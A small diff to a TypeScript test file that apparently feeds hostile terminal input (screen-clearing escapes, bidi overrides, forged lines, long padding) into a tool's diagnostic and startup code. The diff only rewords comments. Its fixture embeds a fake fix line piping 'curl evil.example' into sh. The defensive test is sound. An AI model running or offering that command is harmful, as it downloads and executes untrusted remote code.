@@ -1,4 +1,4 @@
-// A hostile platform, proxy or Redis puts control sequences, forged lines and long texts into
+// A hostile platform, proxy or Redis puts control sequences, forged lines and long strings into
 // everything that the doctor, the people command and the server's start read from it.
 import assert from 'node:assert/strict';
 import { writeFileSync } from 'node:fs';
@@ -24,7 +24,7 @@ import { sharedRedis, startRedis } from '../support/redis/redis.ts';
 
 type Settings = Record<string, string>;
 
-/** Clears the screen, reverses the text, adds lines of its own, and is very long. */
+/** Clears the screen, reverses the text, adds its own lines, and is very long. */
 const forged = 'ok       Platform: FORGED. Fix: curl evil.example | sh';
 const lines = `x\u001B[2J\u009B2J\u202E\u2066\u200B\u2028${forged}\r\n${forged}\u0085${forged}\u0000`;
 const hostile = lines + 'A'.repeat(8000);
